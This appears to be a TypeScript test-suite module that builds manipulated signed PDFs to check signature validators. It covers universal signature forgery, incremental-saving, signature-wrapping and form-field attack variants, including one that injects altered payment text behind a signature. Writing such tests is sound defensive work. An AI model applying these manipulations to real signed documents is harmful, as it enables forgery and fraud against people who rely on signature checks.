import { type Attack, append, lastIndexOf, overwrite } from './attack.ts';

/** Changes the last signature dictionary without moving a byte. */
function patch(find: string, replace: string): Attack['build'] {
  return (pdf) => overwrite(pdf, lastIndexOf(pdf, find), replace.padEnd(find.length));
}

function contentsOf(pdf: Uint8Array): { start: number; end: number } {
  const start = lastIndexOf(pdf, '/Contents <') + '/Contents '.length;
  return { start, end: Buffer.from(pdf).indexOf('>', start) + 1 };
}

function fillContents(text: (length: number) => string): Attack['build'] {
  return (pdf) => {
    const { start, end } = contentsOf(pdf);
    return overwrite(pdf, start, text(end - start));
  };
}

function setRange(change: (numbers: number[]) => string): Attack['build'] {
  return (pdf) => {
    const start = lastIndexOf(pdf, '/ByteRange [') + '/ByteRange ['.length;
    const end = Buffer.from(pdf).indexOf(']', start);
    const numbers = Buffer.from(pdf).toString('latin1', start, end).trim().split(/\s+/).map(Number);
    return overwrite(
      pdf,
      start,
      change(numbers)
        .padEnd(end - start)
        .slice(0, end - start),
    );
  };
}

/** Universal signature forgery: break what makes a viewer check at all. */
export const USF: Attack[] = [
  { family: 'usf', name: 'contents-renamed', build: patch('/Contents', '/Contentz') },
  { family: 'usf', name: 'contents-zeros', build: fillContents((length) => `<${'0'.repeat(length - 2)}>`) },
  { family: 'usf', name: 'contents-empty', build: fillContents((length) => `<>${' '.repeat(length - 2)}`) },
  { family: 'usf', name: 'contents-null', build: fillContents((length) => 'null'.padEnd(length)) },
  { family: 'usf', name: 'contents-one-zero', build: fillContents((length) => '<00>'.padEnd(length)) },
  { family: 'usf', name: 'contents-name', build: fillContents((length) => '/Nothing'.padEnd(length)) },
  { family: 'usf', name: 'range-renamed', build: patch('/ByteRange', '/ByteRangf') },
  { family: 'usf', name: 'range-empty', build: setRange(() => '') },
  { family: 'usf', name: 'range-three', build: setRange((numbers) => numbers.slice(0, 3).join(' ')) },
  { family: 'usf', name: 'range-negative', build: setRange(([a, b, c]) => `${a} ${b} ${c} -1`) },
  { family: 'usf', name: 'range-late-start', build: setRange(([, b, c, d]) => `9 ${(b ?? 0) - 9} ${c} ${d}`) },
  { family: 'usf', name: 'range-past-end', build: setRange(([a, b, c, d]) => `${a} ${b} ${c} ${(d ?? 0) + 999}`) },
  {
    family: 'usf',
    name: 'range-overlapping',
    build: setRange(([a, b, c, d]) => `${a} ${b} ${(b ?? 0) - 9} ${(c ?? 0) + (d ?? 0) - (b ?? 0) + 9}`),
  },
  { family: 'usf', name: 'range-short', build: setRange(([a, b, c, d]) => `${a} ${b} ${c} ${(d ?? 0) - 12}`) },
  { family: 'usf', name: 'unknown-subfilter', build: patch('/ETSI.CAdES.detached', '/ETSI.CAdES.whatever') },
];

const PAGE_TEXT = 'So tien: 900.000 dong';

/** Incremental saving: content behind the signatures with odd or missing cross-references. */
export const ISA: Attack[] = [
  {
    family: 'isa',
    name: 'objects-without-xref',
    build: (pdf) => Buffer.concat([pdf, Buffer.from(`4 0 obj\n(${PAGE_TEXT})\nendobj\n`)]),
  },
  {
    family: 'isa',
    name: 'trailer-only',
    build: (pdf) => Buffer.concat([pdf, Buffer.from('trailer\n<</Size 3/Root 1 0 R>>\n%%EOF\n')]),
  },
  {
    family: 'isa',
    name: 'startxref-nowhere',
    build: (pdf) => Buffer.concat([pdf, Buffer.from('startxref\n99999999\n%%EOF\n')]),
  },
  { family: 'isa', name: 'comment', build: (pdf) => Buffer.concat([pdf, Buffer.from('% hidden\n')]) },
  {
    family: 'isa',
    name: 'copied-signature',
    build: (pdf) => {
      const start = lastIndexOf(pdf, '/Type /Sig\n');
      const end = Buffer.from(pdf).indexOf('endobj', start);
      return Buffer.concat([
        pdf,
        Buffer.from('990 0 obj\n<<'),
        Buffer.from(pdf).subarray(start, end + 6),
        Buffer.from('\n%%EOF\n'),
      ]);
    },
  },
];

/** Signature wrapping: room between the signed parts, or other parts. */
export const SWA: Attack[] = [
  {
    family: 'swa',
    name: 'junk-behind-cms',
    build: (pdf) => overwrite(pdf, contentsOf(pdf).end - 41, '2f4576696c'.repeat(4)),
  },
  { family: 'swa', name: 'gap-one-less', build: setRange(([a, b, c, d]) => `${a} ${(b ?? 0) + 1} ${c} ${d}`) },
  { family: 'swa', name: 'gap-one-more', build: setRange(([a, b, c, d]) => `${a} ${(b ?? 0) - 1} ${c} ${d}`) },
  {
    family: 'swa',
    name: 'second-contents',
    build: (pdf) => {
      const { start, end } = contentsOf(pdf);
      const room = end - start;
      const text = Buffer.from(pdf).toString('latin1', start, end);
      const extra = '/Contents <00>';
      return overwrite(pdf, start, `${text.slice(0, room - extra.length - 1)}>${extra}`);
    },
  },
  {
    family: 'swa',
    name: 'moved-tail',
    build: (pdf) => {
      const { start, end } = contentsOf(pdf);
      const evil = Buffer.from(`\n999 0 obj (${PAGE_TEXT}) endobj\n`);
      const moved = Buffer.concat([Buffer.from(pdf).subarray(0, end), evil, Buffer.from(pdf).subarray(end)]);
      return setRange(([a, , , d]) => `${a} ${start} ${end + evil.length} ${d}`)(moved);
    },
  },
];

/** What happens to the form after the last signature. */
export const EMPTY_UPDATES: Attack[] = [
  {
    family: 'sneaky_signature',
    name: 'field-value-dropped',
    build: (pdf) =>
      append(pdf, (revision, file) => {
        for (const [number] of file.xref.entries) {
          const value = file.object(number);
          if (
            typeof value === 'object' &&
            value !== null &&
            value.kind === 'dict' &&
            value.entries.get('V') !== undefined &&
            value.entries.has('Lock')
          ) {
            revision.set(number, {
              kind: 'dict',
              entries: new Map([...value.entries].filter(([key]) => key !== 'V')),
              repeated: [],
            });
          }
        }
      }),
  },
];
